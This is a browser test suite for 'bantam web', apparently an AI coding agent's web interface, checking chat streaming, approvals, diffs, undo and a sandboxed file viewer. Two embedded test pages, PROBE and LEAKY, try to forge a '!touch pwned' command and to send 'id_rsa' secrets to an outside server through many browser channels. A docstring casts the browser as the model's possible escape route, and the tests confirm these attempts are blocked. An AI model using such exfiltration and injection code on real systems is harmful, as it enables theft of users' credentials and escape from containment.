"""`bantam web` in a real headless Chromium (Debian's /usr/bin/chromium) driven by Playwright.

The model is the scripted local server (tests/fakes/openai_server.py); bantam runs as the real
`bantam web` command. Screenshots go to docs/ when BANTAM_SCREENSHOTS=1 (so a plain test run does
not rewrite tracked files), else to the test's temporary folder.
"""
from __future__ import annotations

import json
import os
import re
import struct
import time
import zlib
from pathlib import Path

import pytest

from bantam import transcripts
from bantam.transcripts import project_id
from tests.conftest import base_cfg, write_cfg
from tests.fakes.openai_server import chunk, sse, text_reply, tool_reply, usage
from tests.web.test_web import WebServer, saved_messages

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
DOCS = Path(__file__).resolve().parents[2] / "docs"

if not os.path.exists(CHROMIUM):
    pytest.skip("needs Debian's Chromium at /usr/bin/chromium (apt-get install -y chromium)",
                allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install -e '.[web,test]'")
expect = sync_api.expect


@pytest.fixture(scope="module")
def browser():
    # Playwright's launch() gives the browser a fresh temporary profile (user data dir) each time.
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.fixture
def web(home, server):
    write_cfg(home, **base_cfg(server))
    w = WebServer(home)
    yield w
    w.close()


@pytest.fixture
def page(browser, web):
    context = browser.new_context(viewport={"width": 1280, "height": 760})
    page = context.new_page()
    page.goto(web.link)
    expect(page.locator(".notice").first).to_contain_text("/help for commands")
    yield page
    context.close()


def send(page, text: str) -> None:
    page.fill("#input", text)
    page.press("#input", "Enter")


def idle(page) -> None:
    expect(page.locator("#stop")).to_be_disabled(timeout=20_000)


def shot(page, name: str, tmp_path: Path) -> None:
    folder = DOCS if os.environ.get("BANTAM_SCREENSHOTS") else tmp_path
    page.screenshot(path=str(folder / name))


def slow_text(text: str, delay: float, reasoning: str | None = None, u: dict | None = None):
    pieces = text.split(" ")
    words = [chunk(w + " ") for w in pieces[:-1]] + [chunk(pieces[-1])]
    head = [chunk(reasoning=reasoning)] if reasoning else []
    return sse(head + words + [chunk(finish="stop"), chunk(usage=u or usage(), no_choices=True)], delay=delay)


def png(width: int, height: int) -> bytes:
    """A real PNG file: a blue-to-orange gradient."""
    rows = b"".join(b"\x00" + bytes(c for x in range(width) for c in (40 + 200 * x // width, 90, 200 - 150 * x // width))
                    for _ in range(height))
    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + \
        part(b"IDAT", zlib.compress(rows)) + part(b"IEND", b"")


def test_a_message_streams_its_answer_with_tools_and_usage(page, web, server, tmp_path):
    (web.workspace / "app.py").write_text("print('hi')\n")
    (web.workspace / "util.py").write_text("X = 1\n")
    answer = ("There are 2 Python files here: app.py and util.py. Both are tiny; app.py prints a "
              "greeting and util.py defines one constant.")
    server.add(tool_reply("shell_exec", {"command": "ls *.py | wc -l"}),
               slow_text(answer, 0.05, reasoning="The listing says 2.", u=usage(1420, 85, cached=1000)))
    send(page, "How many Python files are in this folder?")
    assistant = page.locator(".assistant").last
    page.wait_for_function("() => { const a = document.querySelector('.assistant');"
                           " return a && a.textContent.length > 5 && !a.textContent.includes('constant'); }")
    expect(assistant).to_have_text(answer)  # it grew piece by piece, and is complete now
    expect(page.locator(".call")).to_have_text('[tool call: shell_exec({"command": "ls *.py | wc -l"})]')
    expect(page.locator(".result pre")).to_have_text("2\n\nexit: 0")
    expect(page.locator(".usage").last).to_have_text(
        "[test-model: 1430 prompt sent in 2 requests (1000 cached, 430 uncached) + 90 completion | "
        "context: 1420/? (window unknown)]")
    expect(page.locator(".reasoning")).to_contain_text("The listing says 2.")
    idle(page)
    shot(page, "web-chat.png", tmp_path)
    assert saved_messages(web.workspace)[-1]["content"] == answer


def test_stop_mid_stream_leaves_no_partial_message(page, web, server):
    long = " ".join(f"word{i}" for i in range(80))
    server.add(slow_text(long, 0.1), text_reply("fresh answer"))
    send(page, "count to eighty, slowly")
    expect(page.locator(".assistant").last).to_contain_text("word3")
    page.click("#stop")
    expect(page.locator(".notice").last).to_have_text("[interrupted]")
    expect(page.locator(".assistant.discarded")).to_have_count(1)
    idle(page)
    assert "word79" not in page.locator(".assistant").last.text_content()
    # the system prompt is rebuilt on load, not saved; the stopped prompt is closed as unanswered
    assert [m["role"] for m in saved_messages(web.workspace)] == ["user", "assistant"]
    send(page, "try again")
    expect(page.locator(".assistant").last).to_have_text("fresh answer")
    idle(page)
    assert [m.get("content") for m in saved_messages(web.workspace)] == \
        ["count to eighty, slowly", "[no answer: the user interrupted this request]", "try again", "fresh answer"]


PROBE = """<!doctype html><html><head><meta charset="utf-8"><title>probe</title>
<style>body{font:16px system-ui;margin:2em;color:#222} li{margin:.3em 0;font-family:monospace}</style>
</head><body><h1>Hello from index.html</h1><p>What a script in the viewer can reach:</p><ul id="out"></ul>
<script>
const out = [];
function say(line) { out.push(line); const li = document.createElement("li"); li.textContent = line;
  document.getElementById("out").append(li); }
try { say("parent page: " + parent.document.title); } catch (e) { say("parent page: blocked"); }
try { say("cookie: " + document.cookie); } catch (e) { say("cookie: blocked"); }
say("origin: " + self.origin);
fetch("/api/state").then(r => r.text()).then(t => "api: read " + t, () => "api: blocked").then(say)
  .then(() => fetch("/api/input", {method: "POST", mode: "no-cors", body: '{"text": "!touch pwned"}'}))
  .then(() => say("post: sent"), () => say("post: failed")).then(() => say("done"));
</script></body></html>"""


def test_written_index_html_renders_in_the_sandboxed_viewer(page, web, server, tmp_path):
    server.add(tool_reply("write_file", {"path": "index.html", "content": PROBE}),
               text_reply("I wrote index.html."))
    send(page, "write a page that probes its sandbox")
    expect(page.locator("#files li").filter(has_text="index.html")).to_be_visible()
    frame = page.frame_locator("#viewer iframe")
    expect(frame.locator("h1")).to_have_text("Hello from index.html")
    expect(frame.locator("#out")).to_contain_text("done")
    lines = frame.locator("#out li").all_text_contents()
    assert lines[:4] == ["parent page: blocked", "cookie: blocked", "origin: null", "api: blocked"], lines
    iframe = page.locator("#viewer iframe")
    assert set(iframe.get_attribute("sandbox").split()) >= {"allow-scripts"}
    assert "allow-same-origin" not in iframe.get_attribute("sandbox")
    assert web.token not in iframe.get_attribute("src")
    idle(page)
    shot(page, "web-viewer.png", tmp_path)
    time.sleep(0.3)
    assert not (web.workspace / "pwned").exists()  # the forged POST was refused
    assert len(server.chat_requests()) == 2
    # Opened on its own (same browser, cookie and all), the raw file is still sandboxed.
    alone = page.context.new_page()
    alone.goto(web.base + iframe.get_attribute("src"))
    expect(alone.locator("#out")).to_contain_text("done")
    assert alone.locator("#out li").all_text_contents()[2:4] == ["origin: null", "api: blocked"]
    alone.close()


def test_images_text_and_reload_when_a_file_changes(page, web, tmp_path):
    (web.workspace / "logo.png").write_bytes(png(96, 48))
    notes = web.workspace / "notes.py"
    notes.write_text("def greet(name):\n    return f'hello {name}'\n")
    expect(page.locator("#files li")).to_have_count(2)
    page.locator("#files li").filter(has_text="logo.png").click()
    image = page.locator("#viewer img")
    expect(image).to_be_visible()
    page.wait_for_function("() => document.querySelector('#viewer img').naturalWidth === 96")
    page.locator("#files li").filter(has_text="notes.py").click()
    code = page.locator("#viewer .code")
    expect(code).to_contain_text("def greet(name):")
    assert code.locator("span").count() > 3  # highlighted by pygments, not plain text
    page.uncheck("#follow")  # a changed file reloads even when the viewer does not follow
    notes.write_text("def greet(name):\n    return f'good morning {name}'\n")
    expect(page.locator("#viewer .code")).to_contain_text("good morning")
    shot(page, "web-files.png", tmp_path)
    page.click("#files-button")
    expect(page.locator("#files")).to_be_hidden()
    notes.unlink()
    expect(page.locator("#viewer")).to_contain_text("notes.py was deleted")


def test_the_sessions_panel_resumes_a_terminal_session(page, web, server):
    transcripts.save("terminal-chat", [{"role": "system", "content": "s"},
                                    {"role": "user", "content": "What is 6 times 7?"},
                                    {"role": "assistant", "content": "42."}], summary="a sum from the terminal")
    page.click("#sessions-button")
    row = page.locator("#session-rows tr").filter(has_text="a sum from the terminal")
    expect(row).to_contain_text("2 msgs")
    row.get_by_role("button", name="Resume").click()
    expect(page.locator(".user").first).to_have_text("What is 6 times 7?")
    expect(page.locator(".assistant").first).to_have_text("42.")
    expect(page.locator(".notice").last).to_contain_text("loaded terminal-chat: 2 messages")  # as its row counts them
    send(page, "/list")
    expect(page.locator("pre.output").last).to_contain_text("a sum from the terminal")
    server.add(text_reply("Still 42."))
    send(page, "And 7 times 6?")
    expect(page.locator(".assistant").last).to_have_text("Still 42.")
    assert [m["content"] for m in server.chat_requests()[0].body["messages"][1:]] == \
        ["What is 6 times 7?", "42.", "And 7 times 6?"]


SKELETON = """<!doctype html>
<html><head><meta charset="utf-8"><title>Snake</title>
<style>
body{margin:0;font:15px system-ui,sans-serif;background:#10141c;color:#e8e8e8;display:flex;flex-direction:column;align-items:center}
h1{margin:.6em 0 .2em;font-size:24px} #score{color:#8fd18f}
canvas{background:#1b2230;border:2px solid #2e3a4f;border-radius:6px} p{color:#9aa3b2;margin:.5em}
</style></head><body>
<h1>Snake <span id="score">0</span></h1>
<canvas id="board" width="400" height="400" tabindex="0"></canvas>
<p id="help">Arrow keys steer · Space restarts after a crash · eat the red squares</p>
</body></html>
"""
GAME_SCRIPT = """<script>
const N = 20, S = 20, board = document.getElementById("board"), g = board.getContext("2d");
let snake, dir, next, food, score, over, started, ticks = 0;
function reset() { snake = [{x: 8, y: 10}, {x: 7, y: 10}, {x: 6, y: 10}]; dir = next = {x: 1, y: 0};
  score = 0; over = started = false; place(); }
function place() { do { food = {x: Math.floor(Math.random() * N), y: Math.floor(Math.random() * N)}; }
  while (snake.some(p => p.x === food.x && p.y === food.y)); }
function step() {
  if (over || !started) return;
  dir = next;
  const head = {x: snake[0].x + dir.x, y: snake[0].y + dir.y};
  if (head.x < 0 || head.y < 0 || head.x >= N || head.y >= N || snake.some(p => p.x === head.x && p.y === head.y)) { over = true; return; }
  snake.unshift(head);
  if (head.x === food.x && head.y === food.y) { score++; place(); } else snake.pop();
}
function draw() {
  g.fillStyle = "#1b2230"; g.fillRect(0, 0, 400, 400);
  g.fillStyle = "#e5484d"; g.fillRect(food.x * S + 3, food.y * S + 3, S - 6, S - 6);
  snake.forEach((p, i) => { g.fillStyle = i ? "#46a758" : "#8fd18f"; g.fillRect(p.x * S + 1, p.y * S + 1, S - 2, S - 2); });
  document.getElementById("score").textContent = score;
  if (over || !started) { g.fillStyle = "rgba(0,0,0,.65)"; g.fillRect(0, 165, 400, 70); g.fillStyle = "#fff";
    g.font = "bold 22px system-ui"; g.textAlign = "center";
    g.fillText(over ? "Game over · Space to restart" : "Press an arrow key to start", 200, 208); }
}
const KEYS = {ArrowUp: {x: 0, y: -1}, ArrowDown: {x: 0, y: 1}, ArrowLeft: {x: -1, y: 0}, ArrowRight: {x: 1, y: 0}};
addEventListener("keydown", e => {
  const d = KEYS[e.key];
  if (d && (d.x !== -dir.x || d.y !== -dir.y)) { next = d; started = true; e.preventDefault(); }
  if (e.key === " ") { if (over) reset(); e.preventDefault(); }
});
reset(); draw();
setInterval(() => { step(); draw(); document.body.dataset.ticks = ++ticks; }, 140);
</script>
"""
GAME = SKELETON.replace("</body>", GAME_SCRIPT + "</body>")


@pytest.mark.slow
def test_a_browser_game_is_watched_as_it_is_written(page, web, server, tmp_path):
    """The seed's example task, with scripted model answers: the page first, then the game, then a
    splice; each write shows up in the viewer while the agent keeps working."""
    title = GAME.encode().index(b"Snake <span")  # write_file splices at a byte offset
    server.add(tool_reply("write_file", {"path": "snake/index.html", "content": SKELETON}),
               tool_reply("write_file", {"path": "snake/index.html", "content": GAME}, call_id="call_2"),
               tool_reply("write_file", {"path": "snake/index.html", "content": "Classic ", "offset": title},
                          call_id="call_3"),
               slow_text("Done: snake/index.html is a playable Snake in one HTML file, canvas and all. "
                         "Arrow keys steer, Space restarts.", 0.05))
    for response in server.script[1:3]:
        response.delay = 0.4  # the model takes a moment per step, so each version is on screen a while
    send(page, "Write a playable Snake game as one HTML file with embedded CSS and JavaScript, "
               "canvas, score, game over and restart; no dependencies.")
    frame = page.frame_locator("#viewer iframe")
    expect(frame.locator("#help")).to_be_visible()  # the skeleton, before any script
    expect(page.locator("#path")).to_have_text("snake/index.html")
    expect(frame.locator("body[data-ticks]")).to_be_attached()  # the game runs
    expect(frame.locator("h1")).to_contain_text("Classic Snake")  # the splice reloaded it again
    idle(page)
    frame.locator("#board").focus()
    page.keyboard.press("ArrowDown")
    game = next(f for f in page.frames if f.url.endswith(".html") or "/raw/" in f.url)
    page.wait_for_function("() => true")  # let a tick pass
    time.sleep(0.6)
    assert game.evaluate("() => started && !over && snake[0].y > 10")  # it is playable: the snake turned
    shot(page, "web-game.png", tmp_path)
    assert (web.workspace / "snake" / "index.html").read_text().startswith("<!doctype html>")
    assert "Classic Snake" in (web.workspace / "snake" / "index.html").read_text()
    calls = [json.loads(m["tool_calls"][0]["function"]["arguments"])["path"]
             for m in saved_messages(web.workspace) if m.get("tool_calls")]
    assert calls == ["snake/index.html"] * 3


@pytest.fixture
def asking(browser, home, server):
    """A page on `bantam web` with approval=always: every command is asked."""
    write_cfg(home, **base_cfg(server, approval="always"))
    w = WebServer(home)
    context = browser.new_context(viewport={"width": 1280, "height": 760})
    try:
        page = context.new_page()
        page.goto(w.link)
        expect(page.locator(".notice").nth(1)).to_contain_text("sandbox=workspace: commands may write only")
        yield page
    finally:
        context.close()
        w.close()


def test_approvals_are_asked_and_answered_on_the_page(asking, home, server):
    page = asking
    server.add(tool_reply("shell_exec", {"command": "touch yes.txt"}),
               tool_reply("shell_exec", {"command": "touch no.txt"}), text_reply("finished"))
    send(page, "make two files")
    expect(page.locator("#ask")).to_contain_text("run this? [y]es / [n]o [reason] / [a]lways 'touch'")
    expect(page.locator(".notice").last).to_have_text("[approval needed (approval=always): touch yes.txt]")
    send(page, "y")
    expect(page.locator(".notice").last).to_have_text("[approval needed (approval=always): touch no.txt]")
    send(page, "n not from the page")
    expect(page.locator(".assistant").last).to_have_text("finished")
    idle(page)
    expect(page.locator(".result pre").last).to_have_text("error: not run: the user declined: not from the page")
    assert (home / "yes.txt").exists() and not (home / "no.txt").exists()


def test_an_approval_is_answered_with_its_buttons(asking, home, server, tmp_path):
    """The buttons are the terminal's choices (approval.choices): yes, no, always for the
    command's prefix, and edit, which drafts the command in the input to be changed and sent."""
    page = asking
    server.add(*[tool_reply("shell_exec", {"command": f"touch {name}.txt"}, call_id=f"call_{name}")
                 for name in ("yes", "no", "draft", "always", "again")], text_reply("finished"))
    send(page, "make some files")
    buttons = page.locator("#ask button")
    expect(buttons).to_have_text(["yes", "no", "always 'touch'", "edit"])
    expect(page.locator("#ask")).to_contain_text("run this? [y]es / [n]o [reason] / [a]lways 'touch' / [e]dit")
    shot(page, "web-approval.png", tmp_path)
    buttons.filter(has_text="yes").click()
    expect(page.locator(".notice").last).to_have_text("[approval needed (approval=always): touch no.txt]")
    buttons.filter(has_text="no").click()
    expect(page.locator(".notice").last).to_have_text("[approval needed (approval=always): touch draft.txt]")
    buttons.filter(has_text="edit").click()
    expect(page.locator("#input")).to_have_value("e touch draft.txt")
    send(page, "e touch edited.txt")
    expect(page.locator(".notice").last).to_have_text("[approval needed (approval=always): touch always.txt]")
    buttons.filter(has_text="always").click()
    expect(page.locator(".assistant").last).to_have_text("finished")  # touch again.txt: not asked
    idle(page)
    expect(page.locator("#ask")).to_be_hidden()
    assert sorted(p.name for p in home.glob("*.txt")) == ["again.txt", "always.txt", "edited.txt", "yes.txt"]
    assert page.locator(".result pre").nth(1).text_content() == "error: not run: the user declined"


def test_stop_pauses_a_controlled_run_and_resume_finishes_it(page, web):
    """A run with four planned reads, one model answer each: Stop while its first step (a command)
    works pauses it before the next request; /resume asks for the four reads and finishes."""
    from tests.conftest import wait_for
    from tests.runs.test_runs import held_run
    send(page, "/run " + held_run(web.workspace, ["a.txt", "b.txt", "c.txt", "d.txt"]))
    held = wait_for(lambda: next(web.workspace.glob("runs/*/workspace/held"), None), "the run's command to start")
    page.click("#stop")
    expect(page.locator(".notice").last).to_contain_text("pausing the run at its next safe point")
    (held.parent / "go").write_text("")
    expect(page.locator(".notice").last).to_contain_text("paused: pause: paused on request at a safe point")
    idle(page)
    run = held.parent.parent
    state = json.loads((run / "state.json").read_text())
    assert state["status"] == "paused" and state["scripted_used"] == 2  # no model answer after Stop
    assert [s["status"] for s in state["plan"]] == ["done"] + ["pending"] * 4
    send(page, "/resume")
    expect(page.locator(".output").last).to_have_text("done")
    idle(page)
    state = json.loads((run / "state.json").read_text())
    assert state["status"] == "completed" and state["scripted_used"] == 7
    tools = [json.loads(line)["tool"] for line in (run / "observations.jsonl").read_text().splitlines()]
    assert tools == ["shell"] + ["read_file"] * 4  # the command ran once


def test_a_markdown_table_is_drawn_as_a_table_and_a_long_cell_wraps(page, web, server):
    path = "/srv/data/" + "a-very-long-directory-name-without-spaces/" * 6 + "final-file.txt"
    server.add(text_reply(f"Here:\n\n| file | note |\n|------|------|\n| {path} | <b>not bold</b> |\n\nThat is all."))
    send(page, "list it as a table")
    idle(page)
    table = page.locator(".assistant table")
    expect(table).to_have_count(1)
    expect(table.locator("th")).to_have_text(["file", "note"])
    expect(table.locator("td")).to_have_text([path, "<b>not bold</b>"])  # the model's text stays text
    expect(page.locator(".assistant b")).to_have_count(0)
    expect(page.locator(".assistant")).to_contain_text("That is all.")
    answer, cell = page.locator(".assistant").bounding_box(), table.locator("td").first.bounding_box()
    assert cell["x"] + cell["width"] <= answer["x"] + answer["width"]  # wrapped inside the answer, not cut


LEAKY = """<!doctype html><html><head><meta charset="utf-8"><title>leaky</title>
<link rel="stylesheet" href="own.css"><link rel="stylesheet" href="{out}/css">
<link rel="prefetch" href="{out}/prefetch"><script src="{out}/script"></script>
<style>body {{ background-image: url("{out}/background"); }}</style>
</head><body><h1>leaky</h1><ul id="out"></ul><img id="own" src="sprite.png"><img src="{out}/img">
<form id="post" method="post" action="{out}/form"><input name="secret" value="id_rsa"></form>
<script src="own.js"></script>
<script>
function say(line) {{ const li = document.createElement("li"); li.textContent = line;
  document.getElementById("out").append(li); }}
const own = document.getElementById("own");
say("own image: " + (own.complete && own.naturalWidth === 8 ? "loaded" : "waiting"));
own.onload = () => say("own image: loaded");
say("own style: " + getComputedStyle(document.querySelector("h1")).color);
new Image().src = "{out}/image?secret=id_rsa";
try {{ navigator.sendBeacon("{out}/beacon", "id_rsa"); }} catch (e) {{}}
try {{ new WebSocket("{ws}/socket"); }} catch (e) {{}}
try {{ new EventSource("{out}/events"); }} catch (e) {{}}
try {{ const x = new XMLHttpRequest(); x.open("POST", "{out}/xhr"); x.send("id_rsa"); }} catch (e) {{}}
fetch("{out}/fetch?secret=id_rsa", {{method: "POST", mode: "no-cors", body: "id_rsa"}})
  .then(() => say("fetch: sent"), () => say("fetch: blocked"))
  .then(() => fetch("sprite.png")).then(() => say("own fetch: sent"), () => say("own fetch: blocked"))
  .then(() => say("done"));
</script></body></html>"""


@pytest.fixture
def collector():
    """Another local server, as a page with the network off would try to reach: it records every
    request that arrives (any method, any path), and answers each."""
    import http.server
    import threading
    seen: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            seen.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()
        do_GET = do_POST = do_HEAD = do_OPTIONS = answer

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def test_a_viewed_page_reaches_no_other_server(page, web, collector):
    """With sandbox_network=off the user's browser would be the model's way out: a page it wrote
    and the viewer shows may load its own script, style and image from the workspace, and can
    send nothing anywhere (fetch, XHR, beacon, WebSocket, EventSource, form post, image, style,
    script or prefetch of another server), in the viewer's frame or opened on its own. Not even
    its own files can be fetched (connect-src 'none'): scripts, styles and images load them."""
    where, seen = collector
    (web.workspace / "sprite.png").write_bytes(png(8, 8))
    (web.workspace / "own.css").write_text("h1 { color: rgb(1, 2, 3); }\n")
    (web.workspace / "own.js").write_text('window.addEventListener("load", () => say("own script: ran"));\n')
    (web.workspace / "leaky.html").write_text(LEAKY.format(out=f"http://{where}", ws=f"ws://{where}"))
    page.locator("#files li").filter(has_text="leaky.html").click()
    frame = page.frame_locator("#viewer iframe")
    expect(frame.locator("#out")).to_contain_text("done")
    expect(frame.locator("#out")).to_contain_text("own script: ran")
    expect(frame.locator("#out")).to_contain_text("own image: loaded")
    lines = frame.locator("#out li").all_text_contents()
    assert "own style: rgb(1, 2, 3)" in lines and "fetch: blocked" in lines and "own fetch: blocked" in lines, lines
    src = page.locator("#viewer iframe").get_attribute("src")
    alone = page.context.new_page()  # the same file opened on its own in a tab
    alone.goto(web.base + src)
    expect(alone.locator("#out")).to_contain_text("done")
    assert "fetch: blocked" in alone.locator("#out li").all_text_contents()
    alone.evaluate('document.getElementById("post").submit()')  # (Chromium shows an error page)
    alone.close()
    time.sleep(1.0)  # anything sent would have arrived by now
    assert seen == []
    policy = web.client.get(src).headers["content-security-policy"]
    assert "connect-src 'none'" in policy and "form-action 'none'" in policy and "default-src 'none'" in policy


def test_a_reloaded_page_shows_the_end_of_the_chat(page, web, server):
    """A page opened on a long conversation (a reload, another tab) starts at its last message."""
    for n in range(6):
        server.add(text_reply("\n".join(f"answer {n}, line {i}" for i in range(12))))
        send(page, f"question {n}")
        expect(page.locator(".assistant")).to_have_count(n + 1, timeout=30_000)  # six answers: generous under load
        idle(page)
    page.reload()
    expect(page.locator(".assistant")).to_have_count(6, timeout=30_000)
    expect(page.locator("#status")).not_to_have_text("connecting…", timeout=30_000)
    page.wait_for_function("() => { const log = document.getElementById('log');"
                           " return log.scrollHeight > 2 * log.clientHeight"
                           " && log.scrollHeight - log.scrollTop - log.clientHeight < 5; }")


def test_what_is_typed_while_a_sent_message_is_acknowledged_is_kept(page, web, server):
    """The page hears a turn end (over its event stream) before its own send is acknowledged,
    when the browser is slow to run the reply's handler. Text typed in between, the next
    question, must not be wiped by that late acknowledgement (it was, and the next Enter sent
    nothing)."""
    held = []
    page.route("**/api/input", lambda route: held.append((route, route.fetch())))
    server.add(text_reply("first answer"))
    send(page, "question 0")
    expect(page.locator(".assistant")).to_have_count(1, timeout=30_000)
    idle(page)
    page.fill("#input", "question 1")
    route, response = held.pop()
    route.fulfill(response=response)
    page.unroute("**/api/input")
    page.wait_for_function("() => st.history.length === 1")  # the acknowledgement was handled
    expect(page.locator("#input")).to_have_value("question 1")
    server.add(text_reply("second answer"))
    page.press("#input", "Enter")
    expect(page.locator(".assistant")).to_have_count(2, timeout=30_000)
    expect(page.locator("#input")).to_have_value("")


def test_a_long_file_name_keeps_its_end_in_view_and_shows_whole_on_hover(page, web):
    name = "reports/2026/quarterly/" + "a_summary_of_the_long_analysis_" * 3 + "final_v2.csv"  # nowhere to wrap
    (web.workspace / name).parent.mkdir(parents=True)
    (web.workspace / name).write_text("a,b\n1,2\n")
    (web.workspace / "a.txt").write_text("short\n")
    item = page.locator("#files li").filter(has_text="final_v2.csv")
    expect(item).to_have_attribute("title", name)  # the whole name, on hover
    assert page.evaluate("() => { const ul = document.getElementById('files');"
                         " return ul.scrollWidth <= ul.clientWidth; }")  # nothing runs off to the side
    end, size = item.locator(".tail").bounding_box(), item.locator(".size").bounding_box()
    files = page.locator("#files").bounding_box()
    assert item.locator(".tail").text_content().endswith("final_v2.csv")
    assert end["x"] + end["width"] <= size["x"] and size["x"] + size["width"] <= files["x"] + files["width"]
    item.click()
    expect(page.locator("#path")).to_have_attribute("title", name)
    expect(page.locator("#path .tail")).to_have_text(re.compile("final_v2.csv$"))


def test_a_runs_record_is_one_folded_entry_and_follow_shows_its_output(page, web):
    """A controlled run keeps its state, logs and artifacts in runs/<id>/ beside its workspace:
    the list folds them into one entry, and follow opens what the run wrote, not its logs."""
    answers = web.workspace / "answers.json"
    answers.write_text(json.dumps(["```html\n<h1>Hello from the run</h1>\n```", json.dumps({"final": "wrote it"})]))
    send(page, f"/run --output web/hello.html --scripted {answers} Write a greeting page.")
    expect(page.locator(".output").last).to_have_text("wrote it")
    idle(page)
    run = next((web.workspace / "runs").iterdir())
    output = f"runs/{run.name}/workspace/web/hello.html"
    expect(page.locator("#path")).to_have_attribute("title", output)
    expect(page.frame_locator("#viewer iframe").locator("h1")).to_have_text("Hello from the run")
    time.sleep(1.5)  # three scans of the workspace: the logs written last do not take the viewer
    expect(page.locator("#path")).to_have_attribute("title", output)
    folded = page.locator("#files li.run")
    expect(folded).to_have_count(1)
    expect(folded).to_contain_text(f"runs/{run.name}/")
    expect(page.locator(f'#files li[data-path="{output}"]')).to_be_visible()
    log = page.locator(f'#files li[data-path="runs/{run.name}/events.jsonl"]')
    expect(log).to_be_hidden()
    folded.click()
    expect(log).to_be_visible()
    log.click()
    expect(page.locator("#viewer .code")).to_contain_text('"type"')


def test_a_turn_that_changed_files_offers_its_diff_and_undo(page, web, server, tmp_path):
    server.add(tool_reply("write_file", {"path": "notes.txt", "content": "one\ntwo\nthree\n"}),
               text_reply("wrote the notes"),
               tool_reply("shell_exec", {"command": "sed -i s/two/2/ notes.txt && echo new > extra.txt"},
                          call_id="call_2"),
               text_reply("changed them"))
    send(page, "write the notes")
    expect(page.locator(".assistant").last).to_have_text("wrote the notes")
    send(page, "change them")
    expect(page.locator(".assistant").last).to_have_text("changed them")
    idle(page)
    expect(page.locator("#files li").filter(has_text="extra.txt")).to_be_visible()
    expect(page.locator("#viewer .code")).to_be_visible()  # follow has opened what changed: the diff stays
    blocks = page.locator(".changes")
    expect(blocks).to_have_count(2)
    expect(blocks.first).to_contain_text("turn 1 changed 1 path: notes.txt (created)")
    expect(blocks.last).to_contain_text("turn 2 changed 2 paths: extra.txt (created), notes.txt (changed)")
    blocks.last.get_by_role("button", name="Diff").click()
    diff = page.locator("#viewer .diff")
    expect(diff).to_contain_text("--- a/notes.txt")
    lines = diff.inner_text().splitlines()
    assert "-two" in lines and "+2" in lines and " one" in lines and "+new" in lines, lines
    expect(page.locator("#path")).to_contain_text("turn 2")
    shot(page, "web-diff.png", tmp_path)

    blocks.last.get_by_role("button", name="Undo").click()
    expect(page.locator("#ask")).to_contain_text("undo this? [Y/n]")
    expect(page.locator(".output").last).to_contain_text("remove        extra.txt")
    page.locator("#ask button").filter(has_text="yes").click()
    expect(page.locator(".notice").last).to_contain_text("undone")
    idle(page)
    assert (web.workspace / "notes.txt").read_text() == "one\ntwo\nthree\n" and not (web.workspace / "extra.txt").exists()
    expect(blocks.last).to_have_class(re.compile("undone"))
    expect(blocks.last.get_by_role("button", name="Undo")).to_be_disabled()
    expect(blocks.first.get_by_role("button", name="Undo")).to_be_enabled()

    page.reload()  # the blocks are in the replayed conversation, the undone one marked
    expect(page.locator(".changes")).to_have_count(2)
    expect(page.locator(".changes").last.get_by_role("button", name="Undo")).to_be_disabled()
    page.locator(".changes").first.get_by_role("button", name="Undo").click()
    expect(page.locator(".command").last).to_have_text("> /undo 1")  # turn 2 is undone already
    page.locator("#ask button").filter(has_text="yes").click()
    idle(page)
    assert not (web.workspace / "notes.txt").exists()
    ask = "async (q) => { const r = await fetch('/api/turn?seq=' + q); return [r.status, (await r.json()).error]; }"
    assert page.evaluate(ask, "x")[0] == 400
    assert page.evaluate(ask, "99") == [404, f"no recorded turn 99 in session-{project_id(web.workspace)}"]
